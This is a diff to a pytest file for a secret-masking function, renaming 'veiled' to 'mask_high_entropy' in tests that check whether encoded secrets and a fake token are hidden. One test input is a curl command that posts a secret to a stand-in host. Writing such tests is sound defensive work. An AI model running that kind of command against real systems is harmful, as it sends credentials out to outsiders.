@@ -8,7 +8,7 @@ from collections.abc import Callable
 
 import pytest
 
-from guards._sensitive.opaque import disguised, veiled
+from guards._sensitive.opaque import disguised, mask_high_entropy
 
 KEY = b"k" * 32
 TOKEN = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
@@ -20,7 +20,7 @@ TOKEN = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
     "test_a_name_that_is_long_and_has_2_digits", "2026-11-21T09:30:00Z", "--no-verify-certificates",
 ])
 def test_silent(text: str) -> None:
-    assert veiled(text, KEY) == text
+    assert mask_high_entropy(text, KEY) == text
 
 
 @pytest.mark.parametrize("encode", [
@@ -32,11 +32,11 @@ def test_a_secret_in_disguise_is_not_shown(encode: object) -> None:
     for _ in range(200):
         secret = encode("".join(rng.choices(string.ascii_letters + string.digits, k=rng.randint(20, 60))))  # type: ignore[operator]
         for text in (f"curl -d x={secret} https://e.example/", f"{secret}\n", f"a {secret} b"):
-            assert secret not in veiled(text, KEY)
+            assert secret not in mask_high_entropy(text, KEY)
 
 
 def test_the_same_run_is_recognised_again() -> None:
-    assert veiled("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY) == veiled("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY)
+    assert mask_high_entropy("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY) == mask_high_entropy("d2h5IGRvIHlvdSByZWFkIHRoaXM1", KEY)
 
 
 @pytest.mark.parametrize("text", [
@@ -54,4 +54,4 @@ def test_where_nothing_is_held_only_what_decodes_to_a_secret_is_hidden(text: str
 def test_a_known_secret_in_disguise_is_hidden_wherever_it_stands(encode: Callable[[str], str]) -> None:
     said = encode(TOKEN)
     for text in (said, f"why {said} here?", f"I found {said}.", f"x={said}", f'{{"value": "{said}"}}'):
-        assert said not in disguised(text, KEY) and said not in veiled(text, KEY), text
+        assert said not in disguised(text, KEY) and said not in mask_high_entropy(text, KEY), text
